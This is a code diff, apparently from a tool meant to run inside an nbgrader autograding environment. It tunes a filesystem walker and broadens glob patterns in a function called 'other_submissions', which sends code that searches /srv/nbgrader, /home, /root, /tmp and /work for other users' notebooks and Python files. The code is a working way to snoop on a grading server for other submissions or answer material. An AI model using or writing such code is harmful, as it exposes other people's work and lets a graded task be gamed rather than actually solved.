@@ -34,9 +34,9 @@ def use_files(paths):
         except (OSError, ValueError):
             pass
 
-def files_under(top, limit=60_000):
+def files_under(top, limit=20_000):
     for folder, folders, names in os.walk(top):
-        folders[:] = [f for f in folders if f not in ("proc", "sys", "torch", "nvidia", "jedi", "scipy", "sklearn", "sympy")]
+        folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "dist-packages", "share", "include", "lib64", "python3.11")]
         for name in names:
             limit -= 1
             if limit < 0:
@@ -238,7 +238,8 @@ def search():
 def other_submissions(s):
     snoop(s, """
 import glob, tempfile
-for pattern in ("/srv/nbgrader/**", "/tmp/**/*.ipynb", "/home/**/*.ipynb", "/root/**/*.ipynb", "../../../**/*.ipynb", "../../**/*.py",
-                os.path.expanduser("~/**/*.ipynb"), tempfile.gettempdir() + "/**/*.py", "/work/**/*.py", "/work/**/*.ipynb"):
+for pattern in ("/srv/nbgrader/**", "/tmp/**/*.ipynb", "/home/*/*.ipynb", "/root/*/*.ipynb", "../../../*/*/*.ipynb", "../../*/*/*/*.ipynb", "../../*/*.py",
+                os.path.expanduser("~/*/*.ipynb"), tempfile.gettempdir() + "/**/*.py", "/work/*/*/*.py", "/work/*/*/*/*.py", "/work/*/*/*/*.ipynb",
+                "/work/*/*/*/*/*.ipynb"):
     use_files(glob.iglob(pattern, recursive=True))
 """)
